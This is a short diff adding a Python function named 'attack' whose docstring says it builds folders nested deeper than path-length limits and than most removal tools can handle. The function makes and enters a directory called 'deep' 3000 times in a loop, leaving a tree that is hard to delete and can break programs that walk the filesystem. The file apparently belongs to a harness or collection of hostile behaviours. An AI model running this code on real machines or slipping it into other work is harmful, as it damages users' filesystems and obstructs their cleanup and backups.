@@ -1,0 +1,9 @@
+"""Makes folders deeper than a path may be long and than most programs that remove them can go."""
+
+import os
+
+
+def attack(told: dict[str, str]) -> None:
+    for _ in range(3000):
+        os.mkdir("deep")
+        os.chdir("deep")
